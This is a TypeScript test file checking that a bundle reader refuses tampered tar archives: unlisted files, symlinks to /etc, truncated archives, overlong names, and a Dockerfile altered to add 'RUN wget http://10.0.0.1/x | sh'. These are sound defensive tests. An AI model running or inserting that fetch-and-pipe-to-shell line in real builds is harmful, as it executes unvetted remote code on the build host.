import { createHash } from "node:crypto";
import { createWriteStream, mkdtempSync, rmSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { pipeline } from "node:stream/promises";
import { afterAll, describe, expect, it } from "vitest";
import { stringify } from "yaml";
import { bundleManifest, runManifest } from "../../test/helpers/records.js";
import { BadInputError } from "../errors.js";
import { checkBundleDockerfile, dockerfilePlanOf, renderDockerfile } from "./dockerfile.js";
import { openBundle } from "./read-bundle.js";
import { type TarEntry, tarStreamOf } from "./tar-writer.js";

const dir = mkdtempSync(join(tmpdir(), "mlx-read-bundle-"));
afterAll(() => rmSync(dir, { recursive: true, force: true }));

const run = runManifest();
const record = Buffer.from(stringify(run));
const bundleYaml = bundleManifest(run);
const sha = (data: Buffer): string => createHash("sha256").update(data).digest("hex");
const dockerfile = Buffer.from(renderDockerfile(dockerfilePlanOf(bundleYaml, run, sha(record))));
const listed: Array<[string, Buffer]> = [
  ["bundle.yaml", Buffer.from(stringify(bundleYaml))],
  ["context/Dockerfile", dockerfile],
  [`records/runs/${run.id}/manifest.yaml`, record],
];
const sumsOf = (members: ReadonlyArray<[string, Buffer]>): Buffer =>
  Buffer.from(members.map(([name, data]) => `${sha(data)}  ${name}\n`).join(""));
const file = (name: string, data: Buffer): TarEntry => ({ name, source: { kind: "data", data }, mode: 0o644 });
const folder = (name: string): TarEntry => ({ name, source: { kind: "dir" }, mode: 0o755 });
const sums = file("SHA256SUMS", sumsOf(listed));

let n = 0;
/** Writes a tar with exactly these entries, in this order (the attacker chooses both). */
async function craft(entries: readonly TarEntry[]): Promise<string> {
  const path = join(dir, `bundle-${n++}.tar`);
  await pipeline(tarStreamOf(entries, 0), createWriteStream(path));
  return path;
}
const open = async (entries: readonly TarEntry[]) => openBundle(await craft(entries), dir);
const refusal = async (entries: readonly TarEntry[]): Promise<string> => {
  const error = await open(entries).then(
    () => null,
    (e: unknown) => e,
  );
  expect(error).toBeInstanceOf(BadInputError);
  return (error as BadInputError).message;
};
const members = listed.map(([name, data]) => file(name, data));

describe("openBundle: a bundle holds exactly what SHA256SUMS lists", () => {
  it("opens a bundle of listed files and the folders above them", async () => {
    const opened = await open([folder("context/"), folder("records/"), ...members, sums]);
    expect([...opened.sums.keys()]).toEqual(listed.map(([name]) => name));
    expect(opened.signature).toBeNull();
  });

  it.each([
    ["an extra file before SHA256SUMS", [file("notes.txt", Buffer.from("x")), ...members, sums], /notes.txt is not in SHA256SUMS/],
    ["an extra file after SHA256SUMS", [...members, sums, file("zz.txt", Buffer.from("x"))], /zz.txt is not in SHA256SUMS/],
    ["a folder that holds no listed file", [...members, folder("empty/"), sums], /"empty\/" is a folder that holds no file/],
    ["a folder after SHA256SUMS", [...members, sums, folder("later/")], /"later\/" is a folder that holds no file/],
    ["a second SHA256SUMS", [...members, sums, file("SHA256SUMS", sumsOf(listed))], /duplicate bundle member "SHA256SUMS"/],
    [
      "SHA256SUMS.sig listed in SHA256SUMS",
      [...members, file("SHA256SUMS.sig", Buffer.from("s")), file("SHA256SUMS", sumsOf([...listed, ["SHA256SUMS.sig", Buffer.from("s")]]))],
      /lists SHA256SUMS.sig, which the bundle lacks/,
    ],
    ["a signature under another name", [...members, sums, file("SHA256SUMS.asc", Buffer.from("s"))], /SHA256SUMS.asc is not in SHA256SUMS/],
    [
      "a link",
      [...members, sums, { name: "x", source: { kind: "symlink", target: "/etc" }, mode: 0o777 }],
      /SymbolicLink entries are not allowed/,
    ],
  ] as Array<[string, TarEntry[], RegExp]>)("refuses %s", async (_, entries, message) => {
    expect(await refusal(entries)).toMatch(message);
  });

  it("keeps SHA256SUMS.sig, the one member SHA256SUMS does not list", async () => {
    const opened = await open([...members, sums, file("SHA256SUMS.sig", Buffer.from("sig"))]);
    expect(opened.signature?.toString()).toBe("sig");
  });
});

describe("checkBundleDockerfile: --build builds only the Dockerfile mlx renders from the record", () => {
  it("accepts the rendered Dockerfile", async () => {
    await expect(checkBundleDockerfile(await open([...members, sums]))).resolves.toBeUndefined();
  });

  it("refuses a Dockerfile with a RUN line added, naming context/Dockerfile (exit 2)", async () => {
    const tampered = Buffer.from(dockerfile.toString().replace("COPY app/", "RUN wget http://10.0.0.1/x | sh\nCOPY app/"));
    const entries = listed.map(([name, data]): [string, Buffer] => [name, name === "context/Dockerfile" ? tampered : data]);
    const opened = await open([...entries.map(([name, data]) => file(name, data)), file("SHA256SUMS", sumsOf(entries))]);
    const error = await checkBundleDockerfile(opened).catch((e: unknown) => e);
    expect(error).toBeInstanceOf(BadInputError);
    expect((error as BadInputError).exitCode).toBe(2);
    expect((error as BadInputError).message).toMatch(/context\/Dockerfile is not the Dockerfile mlx renders .*line 6: "RUN wget/);
  });
});

describe("a truncated bundle", () => {
  it("is exit 2 naming the cut, even when large writes are still in flight as the parser fails", async () => {
    const big = Buffer.alloc(48 << 20, 7); // several writes of 1 MiB still queued when the input ends
    const whole = await craft([...members, file("data/big.bin", big), sums]);
    const { size } = await import("node:fs/promises").then((fs) => fs.stat(whole));
    const cut = join(dir, "cut.tar");
    await pipeline((await import("node:fs")).createReadStream(whole, { end: size - (20 << 20) }), createWriteStream(cut));
    for (let i = 0; i < 3; i++) {
      const error = await openBundle(cut, dir).then(
        () => null,
        (e: unknown) => e,
      );
      expect(error).toBeInstanceOf(BadInputError);
      expect((error as BadInputError).message).toMatch(/cannot be read: .*Truncated/);
    }
  });
});

describe("member names", () => {
  it("refuses a path segment longer than a file system takes, naming it, rather than failing to write it", async () => {
    const message = await refusal([...members, file(`context/${"a".repeat(300)}`, Buffer.from("x")), sums]);
    expect(message).toMatch(/a path segment longer than 255 bytes/);
  });
});
